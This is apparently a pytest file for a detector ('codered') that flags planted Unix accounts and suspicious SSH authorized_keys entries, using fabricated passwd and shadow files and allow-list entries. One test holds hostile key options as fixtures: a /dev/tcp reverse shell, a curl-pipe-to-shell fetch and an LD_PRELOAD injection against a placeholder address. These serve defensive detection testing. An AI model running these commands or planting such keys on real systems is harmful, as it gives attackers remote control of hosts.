"""Which accounts and keys are findings."""

import base64
import hashlib
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest

from codered.collect.accounts import collect_accounts
from codered.detect.accounts import judge_accounts
from codered.model.allow_list import NOTHING_ALLOWED, AllowedKey, AllowList
from codered.model.finding import Finding
from codered.targets import open_target
from tests.fixtures.autostart_roots import make_root, shipped_heuristics, write

NOW = datetime.now(UTC)
TODAY = (NOW.date() - date(1970, 1, 1)).days
PASSWD = """root:x:0:0:root:/root:/bin/bash
news:x:9:9::/var/spool/news:/usr/sbin/nologin
ann:x:1000:1000::/home/ann:/bin/bash
"""
SHADOW = f"root:*:{TODAY - 400}:0:99999:7:::\nnews:*:{TODAY - 400}::::::\nann:$6$x$y:{TODAY - 300}:0:99999:7:::\n"
HASH = "$1$" + "abcdefgh$0123456789abcdefghijkl"


def make_key(first: int) -> str:
    blob = b"\0\0\0\x0bssh-ed25519\0\0\0\x20" + bytes(range(first, first + 32))
    return f"ssh-ed25519 {base64.b64encode(blob).decode()} x@y"


KEY = make_key(0)


def lay_out(root: Path, passwd: str = "", shadow: str = "", files: dict[str, str] | None = None) -> Path:
    make_root(root)
    write(
        root,
        {
            "etc/passwd": PASSWD + passwd,
            "etc/shadow": SHADOW + shadow,
            "etc/group": "sudo:x:27:ann,new\n",
            **(files or {}),
        },
    )
    return root


def judge(root: Path, allowed: AllowList = NOTHING_ALLOWED, now: datetime = NOW) -> tuple[Finding, ...]:
    return judge_accounts(collect_accounts(open_target(str(root))), shipped_heuristics(), allowed, now).findings


@pytest.mark.parametrize(
    ("passwd", "shadow", "remedy", "confidence"),
    [
        (f"x:{HASH}:0:0:root:/root:/bin/bash\n", "", "remove_line", "likely"),
        ("ann2:x:0:1001::/home/ann:/bin/bash\n", "ann2:$6$a$b:20000::::::\n", "remove_line", "likely"),
        (f"x:{HASH}:1001:1001::/home/ann:/bin/bash\n", "", "lock_account", "suspicious"),
        ("x::1001:1001::/home/ann:/bin/bash\n", "", "lock_account", "suspicious"),
        ("bin:x:2:2::/bin:/bin/bash\n", f"bin:$6$a$bc:{TODAY}::::::\n", "lock_account", "likely"),
        ("svc:x:500:500::/root:/bin/bash\n", f"svc:$6$a$bc:{TODAY}::::::\n", "lock_account", "likely"),
        ("uucp:x:10:10::/root:/tmp/.sh\n", "", "lock_account", "likely"),
        ("new:x:1001:1001::/home/new:/bin/sh\n", f"new:$6$a$bc:{TODAY}::::::\n", "lock_account", "suspicious"),
    ],
)
def test_planted_accounts(tmp_path: Path, passwd: str, shadow: str, remedy: str, confidence: str) -> None:
    lay_out(tmp_path, passwd, shadow, {"tmp/.sh": ""})
    (found,) = judge(tmp_path)
    assert (found.subject.kind, found.subject.line, found.subject.key) == ("account", 4, passwd.partition(":")[0])
    assert (found.remedy, found.confidence, found.layer) == (remedy, confidence, "accounts")
    line = passwd.removesuffix("\n").encode()
    assert (found.evidence[0].source, found.evidence[0].sha256) == ("line", hashlib.sha256(line).hexdigest())
    assert HASH.encode() not in (found.evidence[0].data or b"")
    assert found.first_seen is not None


def test_an_account_without_login_that_was_opened(tmp_path: Path) -> None:
    """Its shell is a copy of dash whose name ends in a blank, and it has a key."""
    lay_out(tmp_path, "", "", {"usr/sbin/nologin ": "dash", "var/spool/news/.ssh/authorized_keys": KEY + "\n"})
    path = tmp_path / "etc/passwd"
    path.write_text(path.read_text().replace("/usr/sbin/nologin\n", "/usr/sbin/nologin \n"))
    found = {finding.subject.kind: finding for finding in judge(tmp_path)}
    assert (found["account"].remedy, found["account"].confidence) == ("lock_account", "likely")
    assert (found["key"].remedy, found["key"].confidence) == ("remove_key", "likely")


def test_usual_accounts_are_none(tmp_path: Path) -> None:
    usual = "postgres:x:101:104::/var/lib/postgresql:/bin/bash\ngit:x:998:998::/srv/git:/bin/sh\n"
    usual += "bob:x:1001:1001::/home/bob:/bin/zsh\n"
    shadow = f"postgres:!:{TODAY}::::::\ngit:!:{TODAY}::::::\nbob:$y$j9T$x:{TODAY}:0:99999:7:::\n"
    lay_out(tmp_path, usual, shadow, {"home/bob/.bashrc": "", "usr/bin/zsh": ""})
    assert judge(tmp_path) == ()


def test_new_keys_are_worth_a_look_unless_allowed(tmp_path: Path) -> None:
    lay_out(tmp_path, "", "", {"root/.ssh/authorized_keys": f"# mine\n{KEY}\n"})
    (found,) = judge(tmp_path)
    assert (found.subject.kind, found.subject.line, found.remedy) == ("key", 2, "remove_key")
    assert (found.confidence, found.severity) == ("suspicious", "low")
    assert [item.source for item in found.evidence] == ["line", "file"]
    assert found.evidence[0].sha256 == hashlib.sha256(KEY.encode()).hexdigest()
    entry = AllowedKey(key=found.subject.key or "", expires=NOW.date() + timedelta(days=9), because="mine", who="ann")
    assert judge(tmp_path, AllowList(keys=(entry,))) == ()
    seen = collect_accounts(open_target(str(tmp_path)))
    passed = judge_accounts(seen, shipped_heuristics(), AllowList(keys=(entry,)), NOW).allowed
    assert [(one.what, one.entry) for one in passed] == [(found.subject.name(), entry)]
    assert judge(tmp_path, AllowList(keys=(entry,)), NOW + timedelta(days=10)) != ()
    assert judge(tmp_path, now=NOW + timedelta(days=60)) == ()


def test_what_came_with_the_installation_is_not_new(tmp_path: Path) -> None:
    lay_out(tmp_path, "", "", {"home/ann/.ssh/authorized_keys": KEY, "etc/machine-id": "0\n"})
    assert judge(tmp_path) == ()


@pytest.mark.parametrize(
    "options",
    [
        'command="bash -i >& /dev/tcp/192.0.2.1/9 0>&1"',
        'environment="LD_PRELOAD=/tmp/x.so"',
        'command="curl http://192.0.2.1/x | sh"',
    ],
)
def test_keys_that_do_harm_however_old(tmp_path: Path, options: str) -> None:
    lay_out(tmp_path, "", "", {"home/ann/.ssh/authorized_keys": f"{options} {KEY}\n"})
    (found,) = judge(tmp_path, now=NOW + timedelta(days=90))
    assert (found.remedy, found.confidence) == ("remove_key", "likely")


def test_a_key_pair_beside_is_a_reason(tmp_path: Path) -> None:
    files = {
        "root/.ssh/id_rsa1822": "PRIVATE",
        "root/.ssh/id_rsa1822.pub": KEY,
        "root/.ssh/authorized_keys": KEY + "\n",
    }
    (found,) = judge(lay_out(tmp_path, "", "", files))
    assert "private key lies beside it" in found.because


def test_of_several_keys_in_a_new_file_none_is_dated_until_the_others_are_vouched_for(tmp_path: Path) -> None:
    """None is taken for new only because it stands in the same file: the hour of an infection must not open the way to
    take all of them.
    """
    keys = "".join(make_key(first) + "\n" for first in range(3))
    lay_out(tmp_path, "", "", {"root/.ssh/authorized_keys": keys})
    found = judge(tmp_path)
    assert [(item.indicator, item.first_seen, item.confidence) for item in found] == [
        ("key-file-recent", None, "suspicious")
    ] * 3
    vouched = tuple(
        AllowedKey(key=str(item.subject.key), expires=NOW.date() + timedelta(days=9), because="mine", who="ann")
        for item in found[:2]
    )
    (left,) = judge(tmp_path, AllowList(keys=vouched))
    assert (left.subject.line, left.indicator, left.remedy) == (3, "key-recent", "remove_key")
    assert left.first_seen is not None
    assert judge(tmp_path, now=NOW + timedelta(days=60)) == ()


def test_a_key_twice_in_a_file_is_one_key(tmp_path: Path) -> None:
    found = judge(lay_out(tmp_path, "", "", {"root/.ssh/authorized_keys": f"{KEY}\n{KEY}\n"}))
    assert [item.indicator for item in found] == ["key-recent"] * 2


def test_the_key_whose_pair_came_lately_is_the_new_one(tmp_path: Path) -> None:
    files = {
        "root/.ssh/id_rsa1822": "PRIVATE",
        "root/.ssh/id_rsa1822.pub": KEY,
        "root/.ssh/authorized_keys": f"{make_key(9)}\n{KEY}\n",
    }
    found = judge(lay_out(tmp_path, "", "", files))
    assert [(item.indicator, item.first_seen is None) for item in found] == [
        ("key-file-recent", True),
        ("key-recent", False),
    ]


@pytest.mark.parametrize(
    ("changed", "after", "dated"),
    [
        (TODAY, "", True),
        (TODAY - 200, "", False),
        (0, "", True),
        (0, "bob:x:1001:1001::/home/ann:/usr/sbin/nologin\n", None),
    ],
)
def test_an_account_is_as_new_as_its_password_and_not_as_its_file(
    tmp_path: Path, changed: int, after: str, dated: bool | None
) -> None:
    lay_out(tmp_path, f"svc:x:500:500::/root:/bin/bash\n{after}", f"svc:$6$a$bc:{changed or ''}::::::\n")
    (found,) = judge(tmp_path)
    at = (tmp_path / "etc/passwd").stat().st_ctime
    if dated is None:
        assert found.first_seen is None
    else:
        assert found.first_seen is not None
        assert (found.first_seen.timestamp() == pytest.approx(at)) is dated


@pytest.mark.parametrize(
    ("others", "shadow", "files", "remedy"),
    [
        ("", "", {}, ""),
        ("ann2:x:1001:1001::/home/ann:/bin/bash\n", f"ann2:$6$a$b:{TODAY - 99}::::::\n", {}, "lock_account"),
        ("", "", {"root/.ssh/authorized_keys": KEY + "\n"}, "lock_account"),
    ],
)
def test_the_last_one_who_may_become_root_is_not_locked(
    tmp_path: Path, others: str, shadow: str, files: dict[str, str], remedy: str
) -> None:
    passwd = "svc:x:501:501::/srv:/bin/bash\n" + others
    shadow = f"svc:$6$a$bc:{TODAY}::::::\n" + shadow
    lay_out(tmp_path, passwd, shadow, {"srv/x": "", "home/ann/x": "", **files})
    write(tmp_path, {"etc/group": "sudo:x:27:svc,ann2\n"})
    (found,) = [item for item in judge(tmp_path) if item.subject.kind == "account"]
    assert (found.subject.key, found.remedy) == ("svc", remedy)
    assert ("nobody else could become root" in found.because) is not bool(remedy)


def test_people_with_old_numbers_are_people(tmp_path: Path) -> None:
    passwd = "bob:x:500:500::/home/ann:/bin/bash\n"
    shadow = f"bob:$6$a$bc:{TODAY - 99}::::::\n"
    assert judge(lay_out(tmp_path, passwd, shadow, {"home/ann/x": ""})) == ()


def test_this_host_is_clean() -> None:
    seen = collect_accounts(open_target())
    found = judge_accounts(seen, shipped_heuristics(), NOTHING_ALLOWED, NOW).findings
    assert [finding.because for finding in found] == []
    assert any(account.name == "root" for account in seen.accounts)
